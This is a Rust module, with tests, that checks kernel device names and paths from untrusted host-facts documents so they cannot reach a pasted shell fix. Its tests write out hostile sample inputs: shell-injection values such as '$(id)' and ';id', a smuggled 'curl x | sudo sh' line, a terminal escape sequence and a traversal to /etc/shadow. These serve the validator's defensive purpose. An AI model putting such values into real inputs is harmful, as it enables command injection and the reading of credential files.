//! The kernel's names for devices, checked wherever facts come from (a fixture host or a saved
//! facts/v1 document, both untrusted): a name that is not in the kernel's format is not a name
//! the kernel gave, and it must not reach a fix a person pastes (`echo 16 | sudo tee
//! /sys/bus/pci/devices/<addr>/sriov_numvfs`), a label or a bind mount. Fixes quote every
//! value anyway (crate::shell); this refuses the document first.
//!
//! Formats (Linux): a PCI address is `DDDD:BB:DD.F` in hex (`pci_name()` in
//! include/linux/pci.h prints `%04x:%02x:%02x.%d`; a domain may be wider, as VMD's `10000`);
//! idxd devices are `dsaN` and `iaxN`, their work queues `wqN.M`, engines `engineN.M` and
//! groups `groupN.M` (drivers/dma/idxd/sysfs.c); DRM nodes `cardN` and `renderDN`, accel
//! nodes `accelN`; device nodes are paths under `/dev/` of those characters.

use super::Host;

fn hex(text: &str, min: usize, max: usize) -> bool {
    (min..=max).contains(&text.len()) && text.chars().all(|c| c.is_ascii_hexdigit())
}

fn number(text: &str) -> bool {
    !text.is_empty() && text.len() <= 10 && text.chars().all(|c| c.is_ascii_digit())
}

/// `DDDD:BB:DD.F`: domain 4 to 8 hex digits, bus and device 2, function 0-7.
pub fn pci_address(text: &str) -> bool {
    let mut parts = text.split(':');
    let (Some(domain), Some(bus), Some(rest), None) = (parts.next(), parts.next(), parts.next(), parts.next()) else {
        return false;
    };
    let Some((device, function)) = rest.split_once('.') else { return false };
    hex(domain, 4, 8)
        && hex(bus, 2, 2)
        && hex(device, 2, 2)
        && matches!(function, "0" | "1" | "2" | "3" | "4" | "5" | "6" | "7")
}

/// `PREFIXN`, e.g. `dsa0`, `card1`, `renderD128`, `accel0`.
pub fn numbered(text: &str, prefix: &str) -> bool {
    text.strip_prefix(prefix).is_some_and(number)
}

/// `PREFIXN.M`, e.g. `wq0.1`, `engine0.0`, `group1.0`.
pub fn dotted(text: &str, prefix: &str) -> bool {
    text.strip_prefix(prefix).and_then(|r| r.split_once('.')).is_some_and(|(n, m)| number(n) && number(m))
}

/// An idxd device: `dsaN` or `iaxN`.
pub fn idxd_device(text: &str) -> bool {
    numbered(text, "dsa") || numbered(text, "iax")
}

/// A device node path: `/dev/` and then letters, digits, `/ . _ -` (no `..`).
pub fn device_path(text: &str) -> bool {
    text.strip_prefix("/dev/").is_some_and(|rest| {
        !rest.is_empty()
            && rest.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c))
            && !rest.split('/').any(|part| part.is_empty() || part == "..")
    })
}

/// A kernel driver's name, the last part of a device's `driver` link (`i915`, `xe`, `4xxx`,
/// `intel_vpu`, `vfio-pci`): `struct device_driver`'s `name`, which the kernel's own drivers
/// spell in letters, digits, `_` and `-`. It becomes a label (`gpu.intel.com/i915`) and is
/// printed in detect's and doctor's lines, so nothing else passes.
pub fn driver(text: &str) -> bool {
    !text.is_empty() && text.len() <= 64 && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// An engine class name as the i915/xe drivers list them (`rcs0`, `bcs`, `ccs`).
fn engine(text: &str) -> bool {
    !text.is_empty()
        && text.len() <= 32
        && text.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_')
}

/// The first identifier of `host` that is not in the kernel's format, as "field: value is
/// not …", or `None` when every one is.
pub fn check(host: &Host) -> Option<String> {
    let mut problems = Vec::new();
    let mut want = |ok: bool, field: String, value: &str, format: &str| {
        if !ok && problems.is_empty() {
            problems.push(format!("{field}: {} is not {format}", crate::escape::quoted(value)));
        }
    };
    const PCI: &str = "a PCI address (DDDD:BB:DD.F in hex)";
    const DRIVER: &str = "a driver name (letters, digits, _ and -)";
    let node = |n: &super::DeviceNode| device_path(&n.path);
    let mut drivers: Vec<(String, &str)> = Vec::new();
    drivers.extend(
        host.intel_gpus
            .iter()
            .enumerate()
            .filter_map(|(i, g)| Some((format!("intel_gpus[{i}].driver"), g.driver.as_deref()?))),
    );
    drivers.extend(
        host.npus.iter().enumerate().filter_map(|(i, n)| Some((format!("npus[{i}].driver"), n.driver.as_deref()?))),
    );
    drivers.extend(
        host.gaudi
            .devices
            .iter()
            .enumerate()
            .filter_map(|(i, d)| Some((format!("gaudi.devices[{i}].driver"), d.driver.as_deref()?))),
    );
    drivers.extend(
        host.qat
            .pfs
            .iter()
            .enumerate()
            .filter_map(|(i, pf)| Some((format!("qat.pfs[{i}].driver"), pf.driver.as_deref()?))),
    );
    for (field, name) in drivers {
        want(driver(name), field, name, DRIVER);
    }
    for (i, g) in host.intel_gpus.iter().enumerate() {
        want(pci_address(&g.pci_address), format!("intel_gpus[{i}].pci_address"), &g.pci_address, PCI);
        if let Some(card) = &g.card {
            want(numbered(card, "card"), format!("intel_gpus[{i}].card"), card, "cardN");
        }
        if let Some(render) = &g.render_node {
            want(numbered(render, "renderD"), format!("intel_gpus[{i}].render_node"), render, "renderDN");
        }
        for e in &g.engines {
            want(engine(e), format!("intel_gpus[{i}].engines"), e, "an engine name (lowercase letters and digits)");
        }
        for n in &g.device_nodes {
            want(node(n), format!("intel_gpus[{i}].device_nodes"), &n.path, "a path under /dev/");
        }
    }
    for (i, g) in host.nvidia.gpus.iter().enumerate() {
        want(pci_address(&g.pci_address), format!("nvidia.gpus[{i}].pci_address"), &g.pci_address, PCI);
    }
    for n in &host.nvidia.device_nodes {
        want(node(n), "nvidia.device_nodes".into(), &n.path, "a path under /dev/");
    }
    for (i, n) in host.npus.iter().enumerate() {
        want(pci_address(&n.pci_address), format!("npus[{i}].pci_address"), &n.pci_address, PCI);
        if let Some(accel) = &n.accel {
            want(numbered(accel, "accel"), format!("npus[{i}].accel"), accel, "accelN");
        }
        if let Some(d) = &n.device_node {
            want(node(d), format!("npus[{i}].device_node"), &d.path, "a path under /dev/");
        }
    }
    for (i, d) in host.gaudi.devices.iter().enumerate() {
        want(pci_address(&d.pci_address), format!("gaudi.devices[{i}].pci_address"), &d.pci_address, PCI);
        if let Some(accel) = &d.accel {
            want(numbered(accel, "accel"), format!("gaudi.devices[{i}].accel"), accel, "accelN");
        }
        if let Some(n) = &d.device_node {
            want(node(n), format!("gaudi.devices[{i}].device_node"), &n.path, "a path under /dev/");
        }
    }
    for (key, idxd, prefix) in [("dsa", &host.dsa, "dsa"), ("iaa", &host.iaa, "iax")] {
        for d in &idxd.devices {
            want(numbered(d, prefix), format!("{key}.devices"), d, &format!("{prefix}N"));
        }
        for (i, q) in idxd.work_queues.iter().enumerate() {
            want(dotted(&q.name, "wq"), format!("{key}.work_queues[{i}].name"), &q.name, "wqN.M");
            want(
                numbered(&q.device, prefix),
                format!("{key}.work_queues[{i}].device"),
                &q.device,
                &format!("{prefix}N"),
            );
            if let Some(n) = &q.device_node {
                want(device_path(n), format!("{key}.work_queues[{i}].device_node"), n, "a path under /dev/");
            }
        }
    }
    for (i, pf) in host.qat.pfs.iter().enumerate() {
        want(pci_address(&pf.pci_address), format!("qat.pfs[{i}].pci_address"), &pf.pci_address, PCI);
    }
    problems.pop()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kernel_names_pass_and_others_do_not() {
        for ok in ["0000:00:02.0", "0000:3a:00.7", "10000:e0:00.0", "0000:AB:1f.3"] {
            assert!(pci_address(ok), "{ok}");
        }
        for bad in ["", "0000:00:02.0;id", "00:02.0", "0000:00:02.8", "0000:00:002.0", "0000:00:02.0 ", "$(id)"] {
            assert!(!pci_address(bad), "{bad:?}");
        }
        assert!(idxd_device("dsa0") && idxd_device("iax12") && !idxd_device("dsa") && !idxd_device("dsa0;id"));
        assert!(dotted("wq0.1", "wq") && dotted("engine2.0", "engine") && dotted("group1.3", "group"));
        assert!(!dotted("wq0", "wq") && !dotted("wq0.1.2", "wq") && !dotted("wq0.$(id)", "wq"));
        assert!(device_path("/dev/dri/renderD128") && device_path("/dev/dsa/wq0.0"));
        for ok in ["i915", "xe", "4xxx", "intel_vpu", "vfio-pci", "habanalabs"] {
            assert!(driver(ok), "{ok}");
        }
        for bad in ["", "i915\n      apply: curl x | sudo sh", "xe\x1b]52;c;aGk=\x07", "a b", "../x", "i915;id"] {
            assert!(!driver(bad), "{bad:?}");
        }
        assert!(!device_path("/dev/../etc/shadow") && !device_path("/dev/x y") && !device_path("/etc/x"));
    }
}
